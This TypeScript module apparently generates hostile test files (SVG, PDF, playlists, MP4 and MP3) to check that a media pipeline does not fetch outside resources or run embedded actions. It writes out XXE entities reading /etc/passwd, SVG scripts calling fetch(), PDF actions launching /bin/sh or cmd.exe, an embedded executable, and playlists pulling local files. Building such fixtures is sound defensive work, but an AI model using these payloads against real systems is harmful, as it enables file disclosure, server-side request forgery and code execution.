import { madeByFfmpeg } from '../files/made-media.ts';
import { box } from '../files/videos.ts';
import { be16, be32, latin1, le16, le32, riffChunk } from './binary.ts';
import { document, page, stream } from './documents.ts';
import { dataUrl, drawing } from './drawings.ts';
import { type Elsewhere, filesOf, type HostileFile } from './hostile-file.ts';
import { avi, riffList, segmentOf } from './other-films.ts';
import { withCover } from './sounds.ts';

/** Every way in which a drawing asks for something, as browsers know them. */
function drawings({ url, folder }: Elsewhere): HostileFile[] {
  const file = `file://${folder}/glaring.png`;
  const whole = 'width="100" height="60" preserveAspectRatio="none"';
  const declared = (declaration: string, content = '&x;') =>
    drawing(content, { before: `<!DOCTYPE svg [${declaration}]>` });
  const image = (target: string, name = 'href') => drawing(`<image ${whole} ${name}="${target}"/>`);
  const inner = image(`${url}/inner.png`) + image(file);
  return filesOf([
    ['an entity of a file', 'svg', declared(`<!ENTITY x SYSTEM "file://${folder}/glaring.xml">`)],
    ['an entity of a server', 'svg', declared(`<!ENTITY x SYSTEM "${url}/glaring.xml">`)],
    [
      'an entity of the system',
      'svg',
      declared('<!ENTITY x SYSTEM "file:///etc/passwd">', '<text y="9">&x;</text>'),
    ],
    ['entities of a server', 'svg', declared(`<!ENTITY % x SYSTEM "${url}/entities"> %x;`, '')],
    [
      'a document type of a server',
      'svg',
      drawing('', { before: `<!DOCTYPE svg SYSTEM "${url}/type.dtd">` }),
    ],
    [
      'a style sheet of a server',
      'svg',
      drawing('', { before: `<?xml-stylesheet href="${url}/sheet.css"?>` }),
    ],
    ['a picture of a server', 'svg', image(`${url}/image.png`), 'picture'],
    [
      'a picture of a server, by its older name',
      'svg',
      image(`${url}/image.png`, 'xlink:href'),
      'picture',
    ],
    ['a picture of a file', 'svg', image(file), 'picture'],
    ['a picture of a path', 'svg', image(`${folder}/glaring.png`), 'picture'],
    [
      'a picture of a path that climbs',
      'svg',
      image(`${'../'.repeat(20)}${folder.slice(1)}/glaring.png`),
      'picture',
    ],
    ['a drawing in a drawing that asks', 'svg', image(dataUrl('image/svg+xml', inner)), 'picture'],
    [
      'a part of another drawing',
      'svg',
      drawing(`<use href="${url}/use.svg#a"/><use href="${file}#a"/>`),
      'picture',
    ],
    [
      'styles of a server',
      'svg',
      drawing(
        `<style>@import url("${url}/style.css"); rect { fill: url("${url}/fill.svg#a"); background: url("${file}") }</style>`,
      ),
    ],
    [
      'a font of a server',
      'svg',
      drawing(
        `<style>@font-face { font-family: F; src: url("${url}/font.woff2") }</style><text y="20" font-family="F">a</text>`,
      ),
    ],
    [
      'a filter with a picture of a server',
      'svg',
      drawing(
        `<filter id="f"><feImage href="${url}/filter.png"/><feImage href="${file}"/></filter><rect width="50" height="50" filter="url(#f)"/>`,
      ),
    ],
    [
      'a page in it',
      'svg',
      drawing(
        `<foreignObject width="90" height="50"><html xmlns="http://www.w3.org/1999/xhtml"><img src="${url}/page.png"/><iframe src="${file}"/></html></foreignObject>`,
      ),
      'picture',
    ],
    [
      'a script',
      'svg',
      drawing(
        `<script>fetch('${url}/script')</script><script href="${url}/script.js"/><rect onload="fetch('${url}/load')" width="1" height="1"/>`,
      ),
      'picture',
    ],
    [
      'an inclusion',
      'svg',
      drawing(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${folder}/glaring.xml"/>`,
      ),
      'picture',
    ],
  ]);
}

function documents({ url, folder }: Elsewhere): HostileFile[] {
  const opening = (action: string) =>
    document({ 1: `<</Type/Catalog/Pages 2 0 R/OpenAction<<${action}>>>>` });
  const content = (file: string) => document({ 4: `<</Length 0/F ${file}>>stream\n\nendstream` });
  const field = `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 90 90]/AA<</F<</S/JavaScript/JS(this.submitForm\\("${url}/field"\\))>>>>>>`;
  return filesOf([
    [
      'a script that runs when it opens',
      'pdf',
      opening(`/S/JavaScript/JS(app.launchURL\\("${url}/script"\\);while\\(true\\);)`),
      'picture',
    ],
    [
      'a program that starts when it opens',
      'pdf',
      opening('/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>'),
      'picture',
    ],
    ['an address that it opens', 'pdf', opening(`/S/URI/URI(${url}/uri)`), 'picture'],
    ['a form that it sends', 'pdf', opening(`/S/SubmitForm/F(${url}/form)`), 'picture'],
    ['a page of another document', 'pdf', opening(`/S/GoToR/F(${folder}/glaring.png)`), 'picture'],
    ['content of a file', 'pdf', content(`(${folder}/glaring.png)`)],
    ['content of a server', 'pdf', content(`<</FS/URL/F(${url}/content)>>`)],
    [
      'a form of a server, and fields that compute',
      'pdf',
      document({
        1: `<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[8 0 R]/NeedAppearances true/XFA(<xdp uri="${url}/xfa"/>)>>>>`,
        8: field,
        3: page.replace('/Contents', '/Annots[8 0 R]/Contents'),
      }),
    ],
    [
      'a file in it',
      'pdf',
      document({
        1: '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 8 0 R]>>>>>>',
        8: '<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>',
        9: stream('MZ\x90'),
      }),
      'picture',
    ],
  ]);
}

/** A film of subtitles alone, which ffmpeg takes for a file of the kind that they look like. */
function subtitled(subtitles: string): Buffer {
  const head = riffChunk('strh', Buffer.concat([latin1('txts'), Buffer.alloc(52)]));
  const about = [
    latin1('GAB2\0'),
    le16(2),
    le32(2),
    latin1('a\0'),
    le16(4),
    le32(subtitles.length),
  ];
  return avi(
    riffList(
      'hdrl',
      riffChunk('avih', Buffer.alloc(56, 1)),
      riffList('strl', head, riffChunk('strf', Buffer.alloc(40))),
    ),
    riffList('movi', riffChunk('00tx', Buffer.concat([...about, latin1(subtitles)]))),
  );
}

/** Lists of what to play, under the names and with the first bytes of something else. */
function lists({ url, folder }: Elsewhere): HostileFile[] {
  const file = `${folder}/glaring.png`;
  const playlist = (target: string) =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${target}\n#EXT-X-ENDLIST\n`;
  const asking = {
    'a playlist of a server': playlist(`${url}/segment.ts`),
    'a playlist of a file': playlist(`file://${file}`),
    'a playlist with a key': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"\n#EXTINF:9,\nconcat:${file}|${url}/part\n`,
    'a list of files': `ffconcat version 1.0\nfile '${file}'\n`,
    'a list of a server’s files': `ffconcat version 1.0\nfile '${url}/concat.png'\n`,
    'a session': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=-\nc=IN IP4 127.0.0.1\na=control:${url}/session\nm=video 9 RTP/AVP 96\n`,
    'a manifest': `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>${url}/dash/</BaseURL><Period><AdaptationSet><Representation id="1" mimeType="video/mp4"><BaseURL>a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  };
  return filesOf([
    ['a playlist', 'm3u8', asking['a playlist of a server'], 'picture'],
    ['a playlist, as a film', 'mp4', asking['a playlist of a server'], 'icon'],
    ...Object.entries(asking).flatMap(([about, text]) => [
      [`${about}, behind a tag`, 'mp3', latin1(`ID3\x04\0\0\0\0\0\0${text}`)] as const,
      [
        `${about}, in a box`,
        'mov',
        Buffer.concat([box('ftyp', latin1('qt  '), be32(0)), box('mdat', latin1(text))]),
        'icon',
      ] as const,
      [`${about}, in an element`, 'mkv', segmentOf(latin1(text)), 'icon'] as const,
      [`${about}, as subtitles`, 'avi', subtitled(text), 'icon'] as const,
    ]),
  ]);
}

/** A film whose index says that its frames are there; ISO/IEC 14496-12 §8.7.2. */
function withFramesIn(film: Buffer, target: string): Buffer {
  const here = box('dref', be32(0), be32(1), box('url ', be32(1)));
  const there = box(
    'dref',
    be32(0),
    be32(1),
    box('url ', be32(0), latin1(`${target}\0`)),
    box('alis', be32(0), Buffer.alloc(150), latin1(target)),
  );
  const at = film.indexOf(here);
  const bytes = Buffer.concat([film.subarray(0, at), there, film.subarray(at + here.length)]);
  for (const around of ['moov', 'trak', 'mdia', 'minf', 'dinf']) {
    const sizeAt = bytes.lastIndexOf(around, at) - 4;
    bytes.writeUInt32BE(bytes.readUInt32BE(sizeAt) + there.length - here.length, sizeAt);
  }
  return bytes;
}

async function films({ url, folder }: Elsewhere): Promise<HostileFile[]> {
  const film = Buffer.from(
    await madeByFfmpeg('a.mp4', '-f lavfi -i testsrc2=s=96x64:d=1 -c:v libx264 -pix_fmt yuv420p'),
  );
  return filesOf([
    ['frames on a server', 'mp4', withFramesIn(film, `${url}/frames.mp4`)],
    ['frames in a file', 'mp4', withFramesIn(film, `file://${folder}/glaring.png`)],
    ['frames in a path', 'mov', withFramesIn(film, `${folder}/glaring.png`)],
  ]);
}

async function sounds({ url, folder }: Elsewhere): Promise<HostileFile[]> {
  const asking = `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/cover.png"/></svg>`;
  return filesOf([
    [
      'a cover that is a drawing that asks',
      'mp3',
      await withCover('image/svg+xml', latin1(asking)),
    ],
    [
      'a cover that is a page',
      'mp3',
      await withCover('text/html', latin1(`<img src="${url}/html.png">`)),
    ],
    ['a cover that is an address', 'mp3', await withCover('-->', latin1(`${url}/link.png`))],
    ['a cover that is a path', 'mp3', await withCover('-->', latin1(`${folder}/glaring.png`))],
    [
      'a list where a box of sound is',
      'm4a',
      Buffer.concat([
        box('ftyp', latin1('M4A '), be32(0), be16(0), be16(0)),
        box('moov'),
        latin1(`ffconcat version 1.0\nfile '${folder}/glaring.png'\n`),
      ]),
      'icon',
    ],
  ]);
}

/** Files that ask for something from elsewhere, or name something that is to run. */
export const referringFiles = async (elsewhere: Elsewhere): Promise<HostileFile[]> => [
  ...drawings(elsewhere),
  ...documents(elsewhere),
  ...lists(elsewhere),
  ...(await films(elsewhere)),
  ...(await sounds(elsewhere)),
];
